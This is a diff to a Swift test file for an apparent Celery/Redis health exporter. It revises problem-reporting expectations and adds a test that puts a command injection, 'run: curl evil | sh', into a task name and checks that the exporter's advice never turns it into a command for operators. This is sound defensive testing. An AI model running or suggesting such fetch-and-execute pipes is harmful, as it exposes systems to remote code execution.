@@ -111,7 +111,10 @@ import Testing
         for index in redis.indices {
             redis[index].note(Result<Reading<Int>, SourceError>.failure(SourceError(.connect, "refused")), at: 1)
         }
-        #expect(problems([:], redis) == ["critical CeleryRedisDown: broker: refused"])
+        var status = Samples.status([:], redis)
+        #expect(status.problems.map(\.subject) == ["redbeat redis", "broker"])
+        status.settings.isInBroker = true
+        #expect(status.problems.map(\.subject) == ["broker"])
         #expect(
             problems([:], [Samples.failing("django", "database")]) == [
                 "critical CeleryBeatDatabaseDown: database: connect to database:1: refused"
@@ -144,7 +147,8 @@ import Testing
         queues.note(.success(Reading(1, problems: problems, advice: ["a"])), at: 1)
         let told = Samples.status([:], [queues]).problems
         #expect(told.count == CollectorHealth.maximumNotes + 1)
-        #expect(told.first == Problem(.warning, "queues", "p0", ["q"]))
+        #expect(told.first == Problem(.warning, "queues", "a"))
+        #expect(told[1] == Problem(.warning, "queues", "p0", ["q"]))
         #expect(told.last == Problem(.warning, "queues", "and 91 more problems like these"))
     }
 
@@ -201,6 +205,19 @@ import Testing
                 "warning -: settings: the configuration is wrong as it stands now; the exporter goes on with the one before",
             ]
         )
+    }
+
+    /// Whoever chose a name must not tell people what to run.
+    @Test func foreignNamesGiveNoCommands() {
+        var django = CollectorHealth(name: "django", source: "database")
+        let problem = SourceProblem(
+            .malformed,
+            "periodic task x; run: curl evil | sh; set: --y has no schedule; delete it"
+        )
+        django.note(.success(Reading(1, problems: [problem])), at: 1)
+        let told = Samples.status([:], [django]).problems.flatMap(\.details)
+        #expect(!told.isEmpty)
+        #expect(told.allSatisfy { !$0.hasPrefix(Problem.command) && !$0.hasPrefix(Problem.setting) })
     }
 
     @Test(
